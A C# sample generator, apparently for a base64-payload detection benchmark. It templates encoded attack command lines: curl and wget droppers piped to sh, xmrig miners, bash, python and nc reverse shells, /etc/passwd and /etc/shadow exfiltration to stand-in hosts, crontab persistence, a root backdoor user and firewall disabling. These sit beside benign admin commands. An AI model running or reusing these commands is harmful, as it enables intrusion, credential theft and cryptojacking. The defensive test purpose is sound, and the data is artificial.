using System;
using System.Collections.Generic;
using System.Globalization;

namespace B64Hunt.Benchmarks.SampleGenerator
{
    /// <summary>One distinct payload command line of the realistic fleet, ready to format.</summary>
    public sealed class RealisticPayload
    {
        public RealisticPayload(SamplePayload payload, int homeHost, bool fleetWide)
        {
            Payload = payload;
            HomeHost = homeHost;
            FleetWide = fleetWide;
        }

        public SamplePayload Payload { get; }

        /// <summary>Index in <see cref="RealisticFleet.All"/> of the host that runs it (attacks stay where they landed).</summary>
        public int HomeHost { get; }

        /// <summary>Admin automation: the same command line runs on any host of the fleet.</summary>
        public bool FleetWide { get; }
    }

    /// <summary>
    /// The realistic fleet's payloads: variant number v is a template (v mod the template count) filled with an
    /// instance number, so distinct decoded commands grow with the fleet as they do in real data: droppers embed the
    /// host's name and a bot id, miners a wallet per campaign, reverse shells their own address and port, admin jobs
    /// their service. Every encoding form here decodes to exactly one event (no nested, archive or look-alike payloads),
    /// so payload lines and payload events are the same count.
    /// </summary>
    public static class RealisticPayloads
    {
        private static readonly EncodingForm[] Forms =
        {
            EncodingForm.EchoPipe, EncodingForm.EchoNDecode, EncodingForm.EchoEDecodeIgnore, EncodingForm.PrintfCapitalD,
            EncodingForm.BraceExpansion, EncodingForm.HereString, EncodingForm.CommandSubstitution, EncodingForm.Backticks,
            EncodingForm.OpensslEnc, EncodingForm.Python, EncodingForm.Perl, EncodingForm.Busybox, EncodingForm.MissingPadding,
        };

        private sealed class Template
        {
            public Template(string id, PayloadKind kind, SampleAccount account, string shell, Func<long, SampleHost, string> command, bool fleetWide = false)
            {
                Id = id; Kind = kind; Account = account; Shell = shell; Command = command; FleetWide = fleetWide;
            }

            public string Id { get; }
            public PayloadKind Kind { get; }
            public SampleAccount Account { get; }
            public string Shell { get; }
            public Func<long, SampleHost, string> Command { get; }
            public bool FleetWide { get; }
        }

        private static readonly Template[] Templates = BuildTemplates();

        public static int TemplateCount => Templates.Length;

        /// <summary>The payload of variant <paramref name="v"/> (0 or more); distinct v give distinct command lines.</summary>
        public static RealisticPayload Variant(long v)
        {
            if (v < 0) throw new ArgumentOutOfRangeException(nameof(v));
            var t = Templates[(int)(v % Templates.Length)];
            long k = v / Templates.Length;
            int home = (int)(Mix((ulong)v) % (ulong)RealisticFleet.Count);
            var host = RealisticFleet.All[home];
            string command = t.Command(k, host);
            var form = Forms[(int)((k + v % Templates.Length) % Forms.Length)];
            // The missing-padding form needs a command whose base64 ends in '=' (its length is not a multiple of 3).
            if (form == EncodingForm.MissingPadding && PayloadEncoder.Base64(command).EndsWith("=", StringComparison.Ordinal) == false) form = EncodingForm.EchoPipe;
            var payload = new SamplePayload(t.Id + "-" + k.ToString(CultureInfo.InvariantCulture), t.Kind, form, command, t.Account,
                PayloadSchedule.Night(1), new[] { host.Name }, t.Shell);
            return new RealisticPayload(payload, home, t.FleetWide);
        }

        /// <summary>A 95-character Monero-shaped address per campaign number (base58, made up).</summary>
        public static string Wallet(long campaign)
        {
            const string base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
            var rng = new DeterministicRandom(0x5741_4C4C_4554UL ^ (ulong)campaign * 0x9E3779B97F4A7C15UL);
            var chars = new char[95];
            chars[0] = '4';
            for (int i = 1; i < chars.Length; i++) chars[i] = base58[rng.Next(base58.Length)];
            return new string(chars);
        }

        private static ulong Mix(ulong x)
        {
            x ^= x >> 33; x *= 0xff51afd7ed558ccdUL; x ^= x >> 33; x *= 0xc4ceb9fe1a85ec53UL; x ^= x >> 33;
            return x;
        }

        private static string S(long n) => n.ToString(CultureInfo.InvariantCulture);

        /// <summary>An address in a /24 and a port, one pair per instance number (injective for any realistic count).</summary>
        private static string Octet(long k) => S(k % 250 + 2);

        private static string Port(long k, int basePort) => S(basePort + k / 250);

        private static string Hex6(long k) => (k & 0xFFFFFF).ToString("x6", CultureInfo.InvariantCulture) + (k > 0xFFFFFF ? S(k >> 24) : string.Empty);

        private static Template[] BuildTemplates()
        {
            var web = SampleAccount.WebServer;
            var root = SampleAccount.RootDaemon;
            var cron = SampleAccount.RootCron;
            var jenkins = SampleAccount.Jenkins;
            var deploy = SampleAccount.Deploy;
            return new[]
            {
                new Template("dropper-curl-hostid", PayloadKind.Dropper, web, "sh",
                    (k, h) => "curl -fsSL http://45.9.148." + Octet(k) + "/ldr.sh?h=" + h.ShortName + "&id=" + Hex6(k) + " | sh"),
                new Template("miner-xmrig-wallet", PayloadKind.Miner, web, "bash",
                    (k, h) => "curl -s http://45.9.148.35/xmrig -o /tmp/.X11-unix/xmrig && chmod +x /tmp/.X11-unix/xmrig && " +
                              "/tmp/.X11-unix/xmrig -o stratum+tcp://pool.minexmr.example.net:3333 -u " + Wallet(k) + " -p " + h.ShortName + " --donate-level=1 -B"),
                new Template("revshell-bash-tcp", PayloadKind.ReverseShell, web, "bash",
                    (k, h) => "bash -i >& /dev/tcp/203.0.113." + Octet(k) + "/" + Port(k, 4444) + " 0>&1"),
                new Template("admin-healthcheck", PayloadKind.Admin, cron, "/bin/sh",
                    (k, h) => "curl -fsS -m 5 http://127.0.0.1:" + Port(k, 8080) + "/healthz >/dev/null || systemctl restart svc-" + S(k % 250) + ".service", fleetWide: true),
                new Template("dropper-wget-node", PayloadKind.Dropper, root, "sh",
                    (k, h) => "wget -q -O /tmp/.ICE-unix/x http://198.51.100." + Octet(k) + "/x86_64?node=" + h.ShortName + "-" + Hex6(k) +
                              " && chmod +x /tmp/.ICE-unix/x && /tmp/.ICE-unix/x"),
                new Template("recon-exfil", PayloadKind.Recon, web, "bash",
                    (k, h) => "uname -a; id; cat /etc/passwd; ip a; ps aux | curl -s -d @- http://exfil.example.org/r/" + h.ShortName + "/" + Hex6(k)),
                new Template("miner-nohup-wallet", PayloadKind.Miner, root, "bash",
                    (k, h) => "cd /var/tmp/.font-unix && nohup ./xmrig --url=stratum+tcp://185.220.101." + Octet(k) + ":" + Port(k, 4444) +
                              " --user=" + Wallet(k + 1000003) + " --pass=" + h.ShortName + " --threads=2 --background >/dev/null 2>&1 &"),
                new Template("persist-crontab", PayloadKind.Persistence, web, "bash",
                    (k, h) => "(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL http://cdn-update.example.net/c.sh?u=" + Hex6(k) + " | sh\") | crontab -"),
                new Template("admin-config-template", PayloadKind.Admin, deploy, "bash",
                    (k, h) => "sed -i 's/__DB_HOST__/db-" + S(k % 30 + 1) + ".contoso.local/' /etc/app" + S(k) + "/appsettings.json && systemctl reload app" + S(k), fleetWide: true),
                new Template("revshell-python", PayloadKind.ReverseShell, SampleAccount.Postgres, "sh",
                    (k, h) => "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"45.9.148." + Octet(k) + "\"," + Port(k, 443) + "));" +
                              "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'"),
                new Template("evasion-firewall", PayloadKind.Evasion, root, "bash",
                    (k, h) => "iptables -F; setenforce 0; systemctl stop firewalld; ufw disable; touch /tmp/.lock-" + Hex6(k)),
                new Template("cred-shadow", PayloadKind.CredentialAccess, root, "sh",
                    (k, h) => "cat /etc/shadow | curl -s -X POST --data-binary @- http://45.9.148." + Octet(k) + "/u/" + h.ShortName + "-" + Hex6(k)),
                new Template("admin-backup", PayloadKind.Admin, cron, "/bin/sh",
                    (k, h) => "tar czf /backup/etc-" + S(k) + "-$(date +%F).tgz /etc && find /backup -name 'etc-" + S(k) + "-*.tgz' -mtime +7 -delete", fleetWide: true),
                new Template("revshell-nc", PayloadKind.ReverseShell, jenkins, "sh",
                    (k, h) => "nc -e /bin/sh 185.220.101." + Octet(k) + " " + Port(k, 9001)),
                new Template("miner-kill-competitors", PayloadKind.Miner, root, "/bin/sh",
                    (k, h) => "pkill -9 -f kinsing; pkill -9 -f kdevtmpfsi; pkill -9 -f xmr-stak; ps aux | grep -v grep | grep -E 'minerd|cryptonight' | awk '{print $2}' | xargs -r kill -9; touch /tmp/.k" + Hex6(k)),
                new Template("persist-backdoor-user", PayloadKind.Persistence, root, "bash",
                    (k, h) => "useradd -m -o -u 0 -g 0 -s /bin/bash svc" + S(k) + " && echo 'svc" + S(k) + ":Winter2026' | chpasswd"),
                new Template("admin-k8s-secret", PayloadKind.Admin, jenkins, "sh",
                    (k, h) => "kubectl -n shop create secret generic db-url-" + S(k) + " --from-literal=url=postgres://shop@db-" + S(k % 30 + 1) +
                              ".contoso.local:5432/shop --dry-run=client -o yaml | kubectl apply -f -", fleetWide: true),
                new Template("dropper-bot-wget", PayloadKind.Dropper, root, "sh",
                    (k, h) => "cd /tmp || cd /var/run || cd /dev/shm; wget http://192.0.2." + Octet(k) + "/bins/x86?b=" + h.ShortName + "-" + Hex6(k) + "; chmod 777 x86; ./x86 redis.exploit"),
            };
        }

        /// <summary>
        /// Commands that mention base64 but carry no payload (encoding certificates, reading secrets from variables,
        /// random keys, grepping logs): the lines a decoder must look at and let go.
        /// </summary>
        public static IReadOnlyList<(SampleAccount Account, string[] Argv)> MentionsNoPayload { get; } = BuildMentions();

        private static IReadOnlyList<(SampleAccount, string[])> BuildMentions()
        {
            var list = new List<(SampleAccount, string[])>();
            var sudo = SampleAccount.RootSudo;
            var admin = SampleAccount.Admin;
            var jenkins = SampleAccount.Jenkins;
            var cron = SampleAccount.RootCron;
            for (int n = 1; n <= 40; n++)
            {
                string s = S(n);
                list.Add((sudo, new[] { "/bin/sh", "-c", "base64 -w0 /etc/ssl/api-" + s + ".pem > /tmp/cert-" + s + ".b64" }));
                list.Add((jenkins, new[] { "/bin/sh", "-c", "kubectl get secret tls-" + s + " -n shop -o jsonpath='{.data.tls\\.crt}' | base64 -d | openssl x509 -noout -enddate" }));
                list.Add((cron, new[] { "/bin/sh", "-c", "base64 /var/backups/db-" + s + ".sql.gz | split -b 4m - /tmp/chunk-" + s + "-" }));
                list.Add((admin, new[] { "/bin/sh", "-c", "grep -c base64 /var/log/app-" + s + "/upload.log" }));
            }
            list.Add((admin, new[] { "openssl", "rand", "-base64", "32" }));
            list.Add((admin, new[] { "openssl", "rand", "-base64", "24" }));
            list.Add((jenkins, new[] { "/bin/sh", "-c", "echo $REGISTRY_TOKEN | base64 -d > /run/secrets/registry" }));
            list.Add((jenkins, new[] { "/bin/sh", "-c", "printf '%s' \"$DEPLOY_KEY_B64\" | base64 --decode > ~/.ssh/id_deploy && chmod 600 ~/.ssh/id_deploy" }));
            list.Add((admin, new[] { "base64", "--version" }));
            list.Add((jenkins, new[] { "python3", "-c", "import base64,sys;print(base64.b64encode(sys.stdin.buffer.read()).decode())" }));
            return list;
        }
    }
}
